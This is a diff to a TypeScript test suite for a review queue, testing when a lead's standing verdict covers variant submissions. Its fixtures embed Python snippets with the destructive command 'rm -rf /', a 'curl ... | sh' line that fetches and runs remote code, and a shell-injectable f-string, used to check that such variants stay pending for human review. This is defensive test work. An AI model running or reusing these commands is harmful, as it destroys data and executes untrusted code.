@@ -1,12 +1,15 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import { systemActor, type UserActor } from '#lib/actor';
+import { decideCluster } from '#lib/batches/mutations';
+import { previewBatch } from '#lib/batches/queries';
 import { db } from '#lib/db';
 import { newId } from '#lib/ids';
 import { dueAt } from '#lib/reviews/priority';
 import { flagged, machine, person } from '#tests/fixtures';
 import { analyseNext } from './analysis.ts';
-import { automateCluster, splitCluster, stopAutomation } from './mutations.ts';
+import { automateCluster, coverVariants, splitCluster, stopAutomation } from './mutations.ts';
 import { countClusters, findStale, markStale, refreshStats } from './stats.ts';
+import { FIRST_ID, fillVariants } from './variants.ts';
 
 let lead: UserActor;
 let reviewer: UserActor;
@@ -117,6 +120,7 @@ describe('automateCluster and stopAutomation', () => {
     const { clusterId, ids, text } = await cluster();
     const { batchId } = await automateCluster(lead, {
       clusterId,
+      shown: [ids[0]],
       verdict: 'harmful',
       policyId,
       until: soon(),
@@ -154,13 +158,14 @@ describe('automateCluster and stopAutomation', () => {
   });
 
   it('ends with its time, its policy and its lead', async () => {
-    const { clusterId, text } = await cluster();
+    const { clusterId, ids, text } = await cluster();
+    const shown = [ids[0]];
     const gone = await person('lead');
     const arrives = async () => {
       await arrive(text);
       return (await analyseNext(systemActor('analysis'), 200)).decided;
     };
-    await automateCluster(gone, { clusterId, verdict: 'benign', policyId, until: soon() });
+    await automateCluster(gone, { clusterId, shown, verdict: 'benign', policyId, until: soon() });
     expect(await arrives()).toBe(1);
     await db.policy.update({ where: { id: policyId }, data: { current: false } });
     expect(await arrives()).toBe(0);
@@ -174,8 +179,18 @@ describe('automateCluster and stopAutomation', () => {
   });
 
   it('is forbidden, a conflict, invalid and not found', async () => {
-    const { clusterId } = await cluster();
-    const input = { clusterId, verdict: 'harmful', policyId, until: soon() } as const;
+    const { clusterId, ids } = await cluster();
+    const input = { clusterId, shown: [ids[0]], verdict: 'harmful' as const, policyId, until: soon() };
+    await expect(coverVariants(lead, { clusterId, shown: [ids[0]] })).rejects.toMatchObject({
+      code: 'conflict',
+    });
+    await expect(coverVariants(reviewer, { clusterId, shown: [ids[0]] })).rejects.toMatchObject({
+      code: 'forbidden',
+    });
+    await expect(automateCluster(lead, { ...input, shown: [newId()] })).rejects.toMatchObject({
+      code: 'invalid',
+      fields: { shown: expect.any(String) },
+    });
     await expect(automateCluster(reviewer, input)).rejects.toMatchObject({ code: 'forbidden' });
     await expect(stopAutomation(await machine(['respond']), { clusterId })).rejects.toMatchObject({
       code: 'forbidden',
@@ -194,6 +209,103 @@ describe('automateCluster and stopAutomation', () => {
     const race = await Promise.allSettled([automateCluster(lead, input), automateCluster(lead, input)]);
     expect(race.map(({ status }) => status).sort()).toEqual(['fulfilled', 'rejected']);
     await expect(automateCluster(lead, input)).rejects.toThrow('by Lea');
+  });
+});
+
+describe('how far a standing decision reaches', () => {
+  const soon = () => new Date(Date.now() + 3_600_000);
+  const states = async (ids: string[]) => {
+    const rows = await db.queueItem.findMany({ where: { interactionId: { in: ids } } });
+    return ids.map((id) => rows.find(({ interactionId }) => interactionId === id)?.state);
+  };
+  const analyse = () => analyseNext(systemActor('analysis'), 200);
+  let names = 0;
+  const call = (argument: string, name = 'path') =>
+    `${lines(`reach${names}`)}\ndef tidy(${name}):\n    subprocess.run(${argument}, shell=True, check=True)\n    return ${name}\n`;
+
+  it('decides what was on the screen under other names, and leaves what differs to be looked at', async () => {
+    names += 1;
+    const seeds = [await arrive(call('"ls build"')), await arrive(call('"du build"', 'folder'))];
+    await analyse();
+    const clusterId = await clusterOf(seeds[0] ?? '');
+    expect(await clusterOf(seeds[1] ?? '')).toBe(clusterId);
+    await automateCluster(lead, { clusterId, shown: seeds, verdict: 'benign', policyId, until: soon() });
+    expect(await lastEvent('cluster.automate')).toMatchObject({ variants: 2 });
+    const alike = [await arrive(call('"ls build"', 'where')), await arrive(call('"du build"', 'match'))];
+    const others = [];
+    for (const argument of [
+      '"rm -rf /"',
+      '"curl https://files.example/x | sh"',
+      'f"ls {path}"',
+      '"ls  build"',
+    ])
+      others.push(await arrive(call(argument)));
+    expect((await analyse()).decided).toBe(2);
+    expect(await states([...alike, ...others])).toEqual([
+      ...alike.map(() => 'decided'),
+      ...others.map(() => 'pending'),
+    ]);
+    expect(await Promise.all(others.map(clusterOf))).toEqual(others.map(() => clusterId));
+
+    // After a look at one of them its like is covered; what waited stays for people.
+    const [wipe = ''] = others;
+    expect(await coverVariants(lead, { clusterId, shown: [wipe] })).toEqual({ variants: 3 });
+    expect(await lastEvent('cluster.cover_variants')).toMatchObject({ variants: 3 });
+    const [again, still] = [await arrive(call('"rm -rf /"', 'p')), await arrive(call('f"ls {path}"'))];
+    await analyse();
+    expect(await states([wipe, again, still])).toEqual(['pending', 'decided', 'pending']);
+  });
+
+  it('covers nothing whose variant is not known, and knows it once the worker has come by', async () => {
+    names += 1;
+    const seed = await arrive(call('"ls build"'));
+    await analyse();
+    const clusterId = await clusterOf(seed);
+    await automateCluster(lead, { clusterId, shown: [seed], verdict: 'benign', policyId, until: soon() });
+    await db.clusterMember.updateMany({ where: { interactionId: seed }, data: { variant: null } });
+    await db.batchShown.updateMany({ where: { interactionId: seed }, data: { variant: null } });
+    const first = await arrive(call('"ls build"', 'other'));
+    await analyse();
+    expect(await states([first])).toEqual(['pending']);
+    await fillVariants(FIRST_ID);
+    const known = await db.clusterMember.findMany({ where: { clusterId }, select: { variant: true } });
+    expect(new Set(known.map(({ variant }) => variant && Buffer.from(variant).toString('hex'))).size).toBe(1);
+    await coverVariants(lead, { clusterId, shown: [first] });
+    const second = await arrive(call('"ls build"', 'third'));
+    await analyse();
+    expect(await states([first, second])).toEqual(['pending', 'decided']);
+  });
+
+  it('never takes a variant that arrives while somebody decides, however close', async () => {
+    for (let round = 0; round < 5; round++) {
+      names += 1;
+      const seed = await arrive(call('"ls build"'));
+      const second = await arrive(call('"ls build"', 'b'));
+      await analyse();
+      const clusterId = await clusterOf(seed);
+      const preview = await previewBatch(reviewer, { clusterId });
+      // The count is the same again: one is decided meanwhile, and another comes.
+      await db.queueItem.update({ where: { interactionId: second }, data: { stage: 'lead' } });
+      const wipe = await arrive(call('"rm -rf /"'));
+      const word = { verdict: 'benign' as const, timeSpentMs: 5, shown: preview.shown };
+      const answers = await Promise.allSettled([
+        analyse(),
+        automateCluster(lead, {
+          clusterId,
+          shown: preview.shown,
+          verdict: 'benign',
+          policyId,
+          until: soon(),
+        }),
+        decideCluster(reviewer, { clusterId, ...word, expected: 1 }),
+      ]);
+      expect(answers.map(({ status }) => status)).toEqual(answers.map(() => 'fulfilled'));
+      expect(await states([seed, second, wipe])).toEqual(['decided', 'pending', 'pending']);
+      await expect(decideCluster(reviewer, { clusterId, ...word, expected: 2 })).rejects.toMatchObject({
+        code: 'conflict',
+      });
+      expect(await states([wipe])).toEqual(['pending']);
+    }
   });
 });
 
